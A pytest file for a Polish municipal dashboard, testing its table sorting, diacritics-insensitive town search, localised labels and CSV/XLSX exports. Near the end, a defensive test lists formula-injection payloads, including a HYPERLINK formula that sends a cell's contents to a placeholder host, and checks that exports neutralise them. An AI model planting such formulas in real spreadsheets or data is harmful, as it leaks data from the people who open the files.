"""The view's table rows (the CSV) and the town search's options, over the small hand-made atlas."""
from __future__ import annotations

import re

import pytest

from dashboard.ingest.values import VOIVODESHIPS
from dashboard.model import query
from dashboard.model.state import FilterState
from dashboard.view.table import TABLE_COLUMNS, table_frame, table_records
from dashboard.view.towns import search_towns


def test_table_frame_is_localised_filtered_and_sortable(mini_atlas):
    s = FilterState(projects=("P2",), lang="en")
    frame = table_frame(mini_atlas, s)
    assert list(frame.columns) == list(TABLE_COLUMNS)
    assert sorted(frame["name"]) == ["Cieszyn", "Kraków", "Wrocław", "powiat hajnowski"]
    assert set(frame["member"]) == {"yes", "yes (known from a later source)", "no"}   # dated, listed later, not
    by_projects = table_frame(mini_atlas, s, [{"column_id": "n_projects", "direction": "desc"}])
    assert by_projects["name"].iloc[0] == "Cieszyn"


@pytest.mark.parametrize("sort_by", [None, [{"column_id": "n_projects", "direction": "desc"}],
                                     [{"column_id": "member", "direction": "asc"}],
                                     [{"column_id": "join_year", "direction": "desc"}]])
@pytest.mark.parametrize("state", [FilterState(), FilterState(projects=("P2",), lang="en"),
                                   FilterState(years=(1990, 2019), include_unknown_year=False)])
def test_table_rows_are_the_frames_rows_in_display_order(mini_atlas, state, sort_by):
    """table_records (what the table callback sends) = table_frame (the CSV) row for row; the order is
    voivodeship, name, TERYT, then a stable sort on the clicked column (ties keep that order)."""
    from dashboard.ingest.values import collation_key

    frame = table_frame(mini_atlas, state, sort_by)
    records = table_records(mini_atlas, state, sort_by)
    assert records == frame.to_dict("records")
    text = collation_key   # Polish alphabetical order (test_names_sort_in_polish_alphabetical_order)
    expected = sorted(records, key=lambda r: (text(r["voivodeship"]), text(r["name"]), r["teryt"]))
    for spec in sort_by or []:
        column = spec["column_id"]
        expected.sort(key=lambda r: r[column] if column == "n_projects" else text(r[column]),
                      reverse=spec["direction"] == "desc")
    assert records == expected
    assert sorted(r["teryt"] for r in records) == sorted(query.filter_entities(mini_atlas, state)["teryt"])
    records[0]["name"] = "changed"  # the rows are the caller's: the next answer is unaffected
    assert table_records(mini_atlas, state, sort_by)[0]["name"] != "changed"


def test_search_is_diacritics_insensitive_and_puts_cities_first(mini_atlas):
    hits = search_towns(mini_atlas, "lodz")
    assert (hits[0]["label"], hits[0]["value"]) == ("Łódź (łódzkie)", "1061011")
    assert "lodz" in hits[0]["search"] and "Łódź" in hits[0]["search"]
    assert search_towns(mini_atlas, "") == []
    assert all("value" in h for h in search_towns(mini_atlas, "BIAŁ"))




def _kept_by_the_dropdown(option: dict, typed: str) -> bool:
    """Dash's dropdown filters its options again in the browser (js-search, dash/dcc/src/utils/dropdownSearch.ts):
    every whitespace-separated word typed, lower-cased, must be a part of one word of the option's value, label or
    search text."""
    words = " ".join((option["value"], option["label"], option.get("search", ""))).lower().split()
    return all(any(part in word for word in words) for part in typed.lower().split())


def test_search_folds_hyphens_like_the_rest_of_the_app(mini_atlas):
    """The one fold (dashboard.ingest.values.fold): 'bielsko biala' finds Bielsko-Biała, as 'bielsko-biala' does —
    here and in the browser's own filter of the answer (it dropped the 'bielsko-biala' hit: no word of its search
    text had the hyphen)."""
    for typed in ("bielsko biala", "Bielsko-Biala", "bielsko-biala", "BIELSKO–BIAŁA", "bielsko  biała",
                  "Bielsko-Biała", "kedzierzyn-kozle", "Kędzierzyn–Koźle"):
        for lang in ("pl", "en"):
            hits = search_towns(mini_atlas, typed, lang)
            assert hits and _kept_by_the_dropdown(hits[0], typed), (typed, lang, hits[:1])
    assert search_towns(mini_atlas, "bielsko-biala")[0]["value"] == "2461011"


def test_search_labels_are_in_the_page_language(mini_atlas):
    pl = {h["value"]: h["label"] for h in search_towns(mini_atlas, "bartoszyce", "pl")}
    en = {h["value"]: h["label"] for h in search_towns(mini_atlas, "bartoszyce", "en")}
    assert pl.keys() == en.keys() and len(pl) == 2
    assert any("gm. wiejska" in label for label in pl.values())
    assert any("rural gmina" in label for label in en.values())
    assert not any("gm." in label for label in en.values())


def test_a_town_label_has_one_pair_of_brackets():
    """A data name that says its gmina's kind ("Braniewo (gmina wiejska)") is labelled as a gmina found by its own
    name is ("Kłodzko (gm. wiejska, dolnośląskie)", "(rural gmina, …)" in English): it read "Braniewo (gmina
    wiejska) (warmińsko-mazurskie)"."""
    from dashboard.view.towns import town_label

    hit = query.TownHit("2802022", "Braniewo (gmina wiejska)", "warmińsko-mazurskie", None)
    assert town_label(hit, "pl") == "Braniewo (gm. wiejska, warmińsko-mazurskie)"
    assert town_label(hit, "en") == "Braniewo (rural gmina, Warmińsko-Mazurskie)"
    assert town_label(query.TownHit("1061011", "Łódź", "łódzkie", None), "pl") == "Łódź (łódzkie)"


def test_a_town_keeps_its_search_label_once_chosen(mini_atlas):
    """The chosen town shows the label it had in the list, in the page's language: in English "Łódź (Łódzkie)"
    became "Łódź (łódzkie)" once picked, and a data name that says its gmina's kind reads as the search's own
    gminy do, in the page's language ("Braniewo (rural gmina, …)", not "(gmina wiejska, …)" in English)."""
    from dashboard.view.towns import town_option

    for typed, terc in (("lodz", "1061011"), ("bartoszyce", None), ("braniewo", None)):
        for lang in ("pl", "en"):
            for hit in search_towns(mini_atlas, typed, lang):
                if terc is None or hit["value"] == terc:
                    assert town_option(mini_atlas, hit["value"], lang)["label"] == hit["label"], (typed, lang)
    labels = {h["label"] for h in search_towns(mini_atlas, "bartoszyce", "en")}
    assert labels and not any("wiejska" in label or "miejska" in label for label in labels), labels


def test_the_english_page_names_voivodeships_as_english_sources_do(mini_atlas):
    """"Łódzkie", "Warmińsko-Mazurskie" in English (as the English graphics and their "in Łódzkie Voivodeship"
    say), "łódzkie" in Polish: in the table and its downloads, the dropdown, the chips, the bars, the map's hover
    and the town search — an English CSV with "łódzkie" read as a word left untranslated."""
    from dashboard.view import figures, layout

    def everywhere(lang: str) -> dict[str, set[str]]:
        state = FilterState(voivodeships=("10",), lang=lang)
        return {
            "table": set(table_frame(mini_atlas, FilterState(lang=lang))["voivodeship"]),
            "dropdown": {o["label"] for o in layout.voivodeship_options(mini_atlas, lang)},
            "chips": {text for _, text in layout.chips_for(mini_atlas, state)},
            "bars": set(figures.voivodeship_update(mini_atlas, state)["y"]),
            "hover": {text.split("<br>")[0] for text in figures.hover_texts(mini_atlas, lang)},
            "search": {h["label"] for h in search_towns(mini_atlas, "lodz", lang)} | {
                h["label"] for h in search_towns(mini_atlas, "bartoszyce", lang)},
        }

    lower_case = re.compile(r"(?<![\w-])(" + "|".join(VOIVODESHIPS.values()) + r")\b")
    en, pl = everywhere("en"), everywhere("pl")
    for where in en:
        text = " ".join(en[where])
        assert "Łódzkie" in text or "Warmińsko-Mazurskie" in text, (where, en[where])
        assert not lower_case.search(text), (where, en[where])
        assert "Łódzkie" not in " ".join(pl[where]) and "Warmińsko" not in " ".join(pl[where]), (where, pl[where])


def test_one_diacritics_fold_in_the_package():
    """i18n and the export CLI had folds of their own that drifted apart; only ingest.values.fold is left."""
    import re
    from pathlib import Path

    root = Path(__file__).resolve().parent.parent / "dashboard"
    defs = [str(p.relative_to(root)) for p in root.rglob("*.py")
            if re.search(r"^def _?fold\(", p.read_text(encoding="utf-8"), re.M)]
    assert defs == ["ingest/values.py"]


def test_fold_keeps_only_short_texts_in_its_cache():
    """Names and headers are folded again and again and cached; a long text (what a reader types, a long cell) is
    folded alike but never kept, so no input can fill a web worker's memory through the cache."""
    from dashboard.ingest import values

    long = "Bielsko-Biała " * 100
    before, keys = values._fold.cache_info().currsize, values._key.cache_info().currsize
    assert values.fold(long) == ("bielsko biala " * 100).strip()
    assert values._header_key(long) == ("bielsko biala " * 100).strip()
    assert (values._fold.cache_info().currsize, values._key.cache_info().currsize) == (before, keys)
    short = f"Bielsko-Biała {id(long)}"   # a text not folded before
    assert values.fold(short) == f"bielsko biala {id(long)}"
    assert values._fold.cache_info().currsize == before + 1


def test_table_lists_projects_in_the_projects_table_order(mini_atlas):
    frame = table_frame(mini_atlas, FilterState(lang="en"))
    assert frame.set_index("name").at["Cieszyn", "projects"] == "Town development; Service monitoring; Labour market"
    assert query.derived(mini_atlas).entities.set_index("name").at["Cieszyn", "project_ids"] == ("P1", "P2", "P3")


def test_names_sort_in_polish_alphabetical_order():
    from dashboard.ingest.values import collation_key

    shuffled = ["Żarów", "Zabrze", "Łódź", "Lubań", "Głogów", "Góra", "Płock", "Podkowa Leśna", "Świdnica",
                "Sztum", "Źródła", "Więcbork", "Wąbrzeźno", "mazowieckie", "małopolskie", "Ełk", "Ewa", "Ósma",
                "Ostrów", "Lądek-Zdrój", "łódzkie", "lubuskie", "Bielsko-Biała", "Bielsk Podlaski", "Ćmielów",
                "Cieszyn", "Ząbki", "Zabłudów"]
    assert sorted(shuffled, key=collation_key) == [
        "Bielsk Podlaski", "Bielsko-Biała", "Cieszyn", "Ćmielów", "Ełk", "Ewa", "Głogów", "Góra", "Lądek-Zdrój",
        "Lubań", "lubuskie", "łódzkie", "Łódź", "małopolskie", "mazowieckie", "Ostrów", "Ósma", "Płock",
        "Podkowa Leśna", "Sztum", "Świdnica", "Wąbrzeźno", "Więcbork", "Zabłudów", "Zabrze", "Ząbki", "Źródła",
        "Żarów"]


def test_the_table_and_its_sorting_follow_polish_alphabetical_order(mini_atlas):
    """mini_atlas: Łódź (łódzkie), Kraków (małopolskie), ...: the default order is by voivodeship, then name;
    sorting by name puts Łódź after Kwidzyn (code-point order would put it after every other name)."""
    names = list(table_frame(mini_atlas, FilterState(), [{"column_id": "name", "direction": "asc"}])["name"])
    assert names.index("Łódź") == names.index("Kwidzyn") + 1 and names[-1] == "Wrocław", names
    voivodeships = list(table_frame(mini_atlas, FilterState())["voivodeship"])
    assert voivodeships.index("łódzkie") < voivodeships.index("małopolskie") < voivodeships.index("pomorskie")


FORMULAS = ['=HYPERLINK("http://example.invalid/?x="&A2,"Kliknij")', "+48 600 100 200", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("lang", ["pl", "en"])
def test_no_text_of_the_data_runs_as_a_formula_in_the_downloads(mini_atlas, lang):
    """A city or project named like a formula (an office's own data files) reaches an analyst's spreadsheet as the
    same text, never as a formula: CSV with an apostrophe first (OWASP), XLSX as text cells; numbers stay numbers."""
    import csv
    import io

    import openpyxl

    from dashboard.view.table import CSV_FORMATS, table_csv, table_xlsx

    frame = table_frame(mini_atlas, FilterState(lang=lang)).head(len(FORMULAS)).copy()
    frame["name"] = FORMULAS
    frame["projects"] = list(reversed(FORMULAS))
    text = table_csv(frame, lang).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=CSV_FORMATS[lang]["sep"]))
    assert [r[0] for r in rows[1:]] == ["'" + f for f in FORMULAS]
    assert [r[-1] for r in rows[1:]] == ["'" + f for f in reversed(FORMULAS)]
    sheet = openpyxl.load_workbook(io.BytesIO(table_xlsx(frame, lang))).active
    names = [cell for (cell,) in sheet.iter_rows(min_row=2, max_col=1)]
    assert [(c.value, c.data_type) for c in names] == [(f, "s") for f in FORMULAS]
    assert all(c.data_type == "n" for (c,) in sheet.iter_rows(min_row=2, min_col=6, max_col=6))


def test_a_city_not_a_member_at_the_date_has_no_join_year_in_the_table(mini_atlas):
    """Wrocław joined in 2019: at the end of 2010 its row says "no" and leaves the join year empty (it said
    "unknown"; a city counted out by the evidence filter said "no | 1990")."""
    frame = table_frame(mini_atlas, FilterState(asof=2010, lang="en")).set_index("name")
    assert frame.loc["Wrocław", ["member", "join_year"]].tolist() == ["no", ""]
    assert frame.loc["Kraków", ["member", "join_year"]].tolist() == ["yes", "1990"]
    assert (frame.loc[frame["member"] == "no", "join_year"] == "").all()
    later = table_frame(mini_atlas, FilterState(asof=2020, lang="en")).set_index("name")
    assert later.loc["Wrocław", ["member", "join_year"]].tolist() == ["yes", "2019"]
